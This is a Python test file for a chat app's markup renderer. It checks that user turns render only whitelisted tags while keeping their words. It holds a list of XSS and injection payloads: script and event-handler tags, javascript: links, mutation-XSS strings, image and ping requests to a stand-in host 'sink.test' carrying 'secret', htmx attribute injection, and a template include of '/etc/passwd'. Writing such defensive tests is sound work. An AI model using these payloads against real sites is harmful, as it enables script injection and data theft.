"""Whatever a turn holds, the page gets the allowed tags around the very same words, streamed or whole."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.domain.segments import parse_segments
from chat.web.markup import render_turn
from tests.trust import payloads as trust

TAGS = {"p", "em", "strong", "br", "blockquote", "span"}
CLASSES = {"dialogue", "ooc", "whisper", "thought", "cue"}
SINK = "//sink.test/x"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><base href=//sink.test/>",
    "<meta http-equiv=refresh content=0><link rel=stylesheet href=//sink.test/x>",
    "<form action=//sink.test/ id=htmx><input name=attributes></form>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt&#58;alert(1)) [x](java\tscript:alert(1))",
    "[x](vbscript:x) [x](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "**<b onmouseover=alert(1)>** *<i style=x>*",
    "*&lt;script&gt;alert(1)&lt;/script&gt;*",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<div>" * 1000,
    "> " * 1000 + "deep",
    f"![a](http:{SINK}?q=secret) ![a][b]\n\n[b]: {SINK}",
    f"<img srcset={SINK}><picture><source srcset={SINK}></picture><a ping={SINK} href={SINK}>x</a>",
    f"<p background={SINK} style='background:url({SINK})'><video poster={SINK}>",
    '[ok](/chats/1/delete) <a href="/settings/reset">x</a>',
    "<p hx-get=/x hx-on:click=alert(1) data-hx-post=/x hx-vals='js:1' hx-ext=x sse-connect=/x>",
    "<template><script>alert(1)</script></template>",
    '<p id=htmx name=attributes class="htmx-indicator">x</p>',
    '</span></p></div><span class="ooc">((fake))</span>',
    "x\n\nevent: done\ndata: x\n\nid: 1\rretry: 1\u2028y",
    "\u202egnp.exe \u200b\u200f " + "a" + "\u0301" * 10_000 + " \uff1cscript\uff1e",
    "{{7*7}} {% include '/etc/passwd' %} {0.__class__} %(x)s ${7*7}",
    "# heading\n```\ncode <b>\n```\n`tick` | a | b |",
    "\x00 nul \ud800 surrogate \ufffe",
]
MARKED = st.lists(
    st.sampled_from(
        (
            *(
                "*",
                "**",
                "***",
                "_",
                "__",
                ">",
                "\n> ",
                "\n",
                "\n\n",
                "\r\n",
                "\r",
                " ",
                '"',
                "“",
                "”",
                "((",
                "))",
            ),
            *(
                "<b>",
                "</p>",
                "<script>",
                "&",
                "&lt;",
                "\u00a0",
                "\u200b",
                "\u2028",
                "\x1c",
                "a",
                "word",
                "é",
                "🙂",
            ),
            *("\n/whisper Mira ", "\n/think ", "-->", "<!--", "'"),
        )
    ),
    max_size=40,
).map("".join)
TEXTS = st.one_of(MARKED, st.text(), st.sampled_from(PAYLOADS))


class Page(HTMLParser):
    """What a reader of the HTML finds in it: tags, attributes, text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        self.text += "\n" * (tag in ("br", "p"))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags.append("!--")

    def handle_decl(self, decl: str) -> None:
        self.tags.append("!")


def words(text: str) -> str:
    """The text without the characters the grammar may take away: marks and white space."""
    return re.sub(r"[\s*_>\u200b-\u200f\u2060\ufeff]", "", text)


def assert_safe(html: str) -> Page:
    page = Page(html)
    assert set(page.tags) <= TAGS
    assert all(name == "class" and value in CLASSES for name, value in page.attributes)
    assert nh3.clean(html, tags=TAGS, attributes={"span": {"class"}}, link_rel=None) == html
    return page


NUMBERED = [text for case in trust.PAYLOADS for text in trust.payloads(case)]
"""Those of the trust list, on top of our own."""


@pytest.mark.parametrize("payload", PAYLOADS + NUMBERED, ids=range(len(PAYLOADS + NUMBERED)))
@pytest.mark.parametrize("frame", ["{}", '"{}"', "*{}*", "(({}))", "> {}", "**{}**", "/think {}"])
def test_hostile_text_becomes_inert_text(payload: str, frame: str) -> None:
    assert_safe(render_turn(frame.replace("{}", payload)))


@given(TEXTS)
def test_only_allowed_tags_come_out_and_a_second_reading_changes_nothing(text: str) -> None:
    assert_safe(render_turn(text))


@given(MARKED)
def test_every_word_is_still_there_in_order(text: str) -> None:
    if not re.search(r"/(whisper|think)", text):
        assert words(Page(render_turn(text)).text) == words(text)


def test_hostile_text_stays_readable_to_the_letter() -> None:
    for payload in PAYLOADS:
        shown = payload.replace("\x00", "\ufffd").replace("\ud800", "\ufffd")
        assert words(Page(render_turn(payload)).text) == words(shown), payload


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        (" \n\n ", ""),
        ("One\ntwo\r\nthree\n\n\nfour", "<p>One<br>two<br>three</p><p>four</p>"),
        (
            "*walks* **loud** ***both*** _soft_",
            "<p><em>walks</em> <strong>loud</strong> <strong><em>both</em></strong> <em>soft</em></p>",
        ),
        ("snake_case and 2 * 3 * 4 and **", "<p>snake_case and 2 * 3 * 4 and **</p>"),
        ("**a _b** c_", "<p><strong>a _b</strong> c_</p>"),
        ("> quoted\n> again\nplain", "<blockquote><p>quoted<br>again</p></blockquote><p>plain</p>"),
        ('"Hey *you*," he said.', '<p><span class="dialogue">"Hey <em>you</em>,"</span> he said.</p>'),
        ("*open\n\nclosed*", "<p><em>open</em></p><p>closed*</p>"),
        ("*a **b** c* d", "<p><em>a <strong>b</strong> c</em> d</p>"),
        (
            "Hm. ((one\n\ntwo))",
            '<p>Hm. <span class="ooc">((one</span></p><p><span class="ooc">two))</span></p>',
        ),
        ("/think hm", '<p><span class="thought"><span class="cue">(thinking)</span> hm</span></p>'),
        ("# Head\n`code`", "<p># Head<br>`code`</p>"),
        ("see http://a.test/x?y=1&z", "<p>see http://a.test/x?y=1&amp;z</p>"),
    ],
)
def test_the_grammar(text: str, html: str) -> None:
    assert render_turn(text) == html


def test_a_whisper_names_its_receiver_in_words() -> None:
    said = "/whisper Old <Tom> go\nLoud."
    assert render_turn(said, parse_segments(said, {"Old <Tom>": "bot:1"})) == (
        '<p><span class="whisper"><span class="cue">(whispering to Old &lt;Tom&gt;)</span> go</span><br>Loud.</p>'
    )


def test_segments_of_another_text_are_not_trusted() -> None:
    assert render_turn("((secret))", parse_segments("other")) == '<p><span class="ooc">((secret))</span></p>'
